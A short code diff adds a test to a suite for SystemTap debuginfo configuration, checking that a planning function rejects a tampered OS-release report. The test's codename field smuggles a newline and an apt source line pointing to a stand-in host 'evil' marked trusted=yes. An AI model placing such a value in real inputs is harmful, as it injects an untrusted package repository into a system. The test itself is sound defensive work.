@@ -225,3 +225,11 @@ describe('configFromEnv: SystemTap settings from the chart', () => {
     assert.throws(() => configFromEnv({ TRACEJOB_DEBUGINFO_CACHE: 'relative/path' }));
   });
 });
+
+describe('a poisoned report that got past the schema', () => {
+  it('the plan refuses it at the point of use: no init container, DebuginfoUnavailable naming the field', () => {
+    const p = plan(report({ kernelBuildTree: false, debuginfo: { present: false, debuginfod: false }, osRelease: { id: 'debian', idLike: [], versionId: '13', codename: 'trixie main\ndeb [trusted=yes] http://evil/ x' } }));
+    assert.equal(p.kind, 'unavailable', JSON.stringify(p));
+    assert.match(p.kind === 'unavailable' ? p.message : '', /VERSION_CODENAME/);
+  });
+});
